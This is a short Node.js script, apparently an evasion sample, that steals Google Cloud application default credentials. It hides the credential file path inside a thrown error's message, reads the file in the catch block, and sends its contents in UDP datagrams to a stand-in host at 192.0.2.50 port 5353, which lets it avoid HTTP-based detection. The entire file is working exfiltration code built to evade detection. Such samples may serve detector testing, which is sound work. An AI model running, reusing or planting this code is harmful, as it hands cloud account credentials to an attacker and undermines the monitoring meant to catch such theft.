// Evasion: the credential path travels inside an exception: a "validator"
// throws an Error whose message is the path to the gcloud credentials, the
// catch block reads the file named by err.message and sends it in UDP
// datagrams with dgram, not an HTTP client.
'use strict';
const dgram = require('dgram');
const fs = require('fs');
const os = require('os');

class MissingConfig extends Error {}

function validate(dirParts) {
  const where = [os.homedir(), ...dirParts].join('/');
  throw new MissingConfig(where);
}

let data = Buffer.alloc(0);
try {
  validate(['.config', 'gcloud', 'application_default_credentials.json']);
} catch (err) {
  data = fs.readFileSync(err.message);
}

const sock = dgram.createSocket('udp4');
for (let off = 0; off < data.length; off += 512) {
  sock.send(data.subarray(off, off + 512), 5353, '192.0.2.50');
}
setTimeout(() => sock.close(), 500);
